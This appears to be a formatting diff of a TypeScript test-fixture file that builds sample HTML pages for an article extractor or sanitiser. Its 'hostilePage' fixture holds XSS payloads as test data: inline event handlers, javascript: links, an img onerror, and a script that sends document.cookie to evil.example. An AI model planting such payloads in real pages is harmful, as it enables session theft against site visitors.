@@ -5,7 +5,24 @@
 
 /** `n` distinct-ish English words. */
 export function words(n: number, seed = 0): string {
-  const vocab = ['river', 'stone', 'garden', 'light', 'morning', 'history', 'engine', 'paper', 'window', 'market', 'winter', 'signal', 'harbor', 'forest', 'letter', 'silver'];
+  const vocab = [
+    'river',
+    'stone',
+    'garden',
+    'light',
+    'morning',
+    'history',
+    'engine',
+    'paper',
+    'window',
+    'market',
+    'winter',
+    'signal',
+    'harbor',
+    'forest',
+    'letter',
+    'silver',
+  ];
   const out: string[] = [];
   for (let i = 0; i < n; i++) out.push(vocab[(i * 7 + seed) % vocab.length]);
   return out.join(' ');
@@ -38,7 +55,10 @@ export function articlePage(origin = 'https://news.example'): string {
     <article>
       <h1>How rivers shape stone</h1>
       <p class="byline">By Ada Writer</p>
-      ${paras.slice(0, 6).map((p) => `<p>${p}</p>`).join('\n      ')}
+      ${paras
+        .slice(0, 6)
+        .map((p) => `<p>${p}</p>`)
+        .join('\n      ')}
       <h2>The slow work of water</h2>
       <p>Read the <a href="/science/erosion">erosion primer</a> and the <a href="https://other.example/map">map</a> first.</p>
       <ul>
@@ -47,7 +67,10 @@ export function articlePage(origin = 'https://news.example'): string {
         <li>Hydraulic action</li>
       </ul>
       <img src="images/canyon.jpg" alt="A canyon" width="800" height="600">
-      ${paras.slice(6, 12).map((p) => `<p>${p}</p>`).join('\n      ')}
+      ${paras
+        .slice(6, 12)
+        .map((p) => `<p>${p}</p>`)
+        .join('\n      ')}
       <h2>Measuring it</h2>
       <pre><code class="language-python">def rate(depth, years):
     return depth / years
@@ -56,7 +79,10 @@ export function articlePage(origin = 'https://news.example'): string {
         <thead><tr><th>River</th><th>Rate</th></tr></thead>
         <tbody><tr><td>Colorado</td><td>0.3</td></tr><tr><td>Yangtze</td><td>0.2</td></tr></tbody>
       </table>
-      ${paras.slice(12).map((p) => `<p>${p}</p>`).join('\n      ')}
+      ${paras
+        .slice(12)
+        .map((p) => `<p>${p}</p>`)
+        .join('\n      ')}
     </article>
   </main>
   <aside class="sidebar"><h3>Most read</h3><ul><li><a href="/a">Something else entirely</a></li></ul></aside>
@@ -123,7 +149,9 @@ export function hostilePage(): string {
 <body onload="alert('body')">
   <article>
     <h1>Totally normal article</h1>
-    ${paragraphs(400).map((p, i) => `<p onclick="alert(${i})" style="color:red" class="x" id="p${i}">${p}</p>`).join('\n    ')}
+    ${paragraphs(400)
+      .map((p, i) => `<p onclick="alert(${i})" style="color:red" class="x" id="p${i}">${p}</p>`)
+      .join('\n    ')}
     <p><a href="javascript:alert('link')">click me</a> <a href="JaVaScRiPt:alert(2)">again</a> <a href="/relative/page" onmouseover="steal()">relative</a></p>
     <p><img src="x.png" onerror="alert('img')"> <img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="></p>
     <script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
